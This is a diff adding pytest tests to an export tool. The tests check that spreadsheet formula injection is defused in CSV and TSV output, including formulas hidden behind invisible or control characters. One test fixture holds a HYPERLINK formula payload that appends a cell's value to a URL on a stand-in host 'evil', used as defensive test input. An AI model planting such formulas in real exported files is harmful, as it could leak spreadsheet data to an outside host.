@@ -157,6 +157,23 @@ def test_a_row_between_tabs_is_one_line_of_as_many_cells() -> None:
     assert "Peace with a tab" in lines[2]
 
 
+@pytest.mark.parametrize(
+    "unseen", [" ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060", "\u00ad", "\x00", "\x1b", "\u202e"]
+)
+def test_a_formula_is_one_whatever_unseen_stands_before_it(unseen: str) -> None:
+    assert defused(f"{unseen}=1") == f"'{unseen}=1"
+    assert defused(f"{unseen}1") == f"{unseen}1"
+
+
+def test_a_row_between_tabs_is_the_same_to_readers_who_know_quotation_marks() -> None:
+    link = '"=HYPERLINK(""http://evil/?""&A2,""click"")"'
+    lines = text("tsv", replace(TALKS, id="d", title=link), replace(TALKS, id="e", title='"open'), MONTH)
+    read = list(csv.reader(io.StringIO(lines, newline=""), delimiter="\t"))
+    title = COLUMNS.index("title")
+    assert {row[title] for row in read} == {"title", link, '"open', "'=HYPERLINK(peace)"}
+    assert not [cell for row in read for cell in row if cell.startswith("=")]
+
+
 def test_ids_and_paths_are_lines_and_a_file_is_named_once() -> None:
     record = replace(MONTH, path="/news/a\nb.csv")
     assert text("ids", TALKS, MONTH) == "b\n54ce1f9f2a187429\n"
@@ -209,6 +226,8 @@ def test_whatever_stands_in_an_article_stays_in_its_place(title: str, author: st
     assert sum(line.startswith("ER") for line in lines) == 2
     assert [len(row) for row in csv.reader(io.StringIO(text("csv", odd, TALKS), newline=""))] == [len(COLUMNS)] * 3
     assert text("tsv", odd, TALKS).count("\n") == 3
+    tsv = csv.reader(io.StringIO(text("tsv", odd, TALKS), newline=""), delimiter="\t")
+    assert [len(row) for row in tsv] == [len(COLUMNS)] * 3
     assert len(json.loads(text("csl-json", odd, TALKS))) == 2
     assert is_balanced(text("bibtex", odd))
 
